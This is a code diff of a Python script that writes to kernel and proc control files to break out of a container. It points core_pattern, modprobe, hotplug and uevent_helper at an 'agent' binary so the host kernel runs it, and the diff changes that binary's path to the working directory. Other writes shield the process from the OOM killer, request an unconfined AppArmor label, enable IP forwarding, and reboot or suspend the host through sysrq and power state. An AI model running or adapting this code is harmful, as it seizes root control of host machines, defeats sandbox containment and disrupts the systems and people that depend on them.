@@ -19,14 +19,14 @@ for path in ("/proc/self/exe", "/proc/1/exe", "/proc/self/root/usr/bin/python3",
             pass
 for name, text in (
     ("/proc/self/oom_score_adj", "-1000"),
-    ("/proc/sys/kernel/core_pattern", "|/work/agent"),
-    ("/proc/sys/kernel/modprobe", "/work/agent"),
-    ("/proc/sys/kernel/hotplug", "/work/agent"),
+    ("/proc/sys/kernel/core_pattern", f"|{os.getcwd()}/agent"),
+    ("/proc/sys/kernel/modprobe", f"{os.getcwd()}/agent"),
+    ("/proc/sys/kernel/hotplug", f"{os.getcwd()}/agent"),
     ("/proc/sys/vm/overcommit_memory", "1"),
     ("/proc/sys/net/ipv4/ip_forward", "1"),
     ("/proc/sys/kernel/ns_last_pid", "1"),
     ("/proc/sysrq-trigger", "b"),
-    ("/sys/kernel/uevent_helper", "/work/agent"),
+    ("/sys/kernel/uevent_helper", f"{os.getcwd()}/agent"),
     ("/sys/power/state", "mem"),
     ("/proc/self/attr/exec", "unconfined"),
 ):
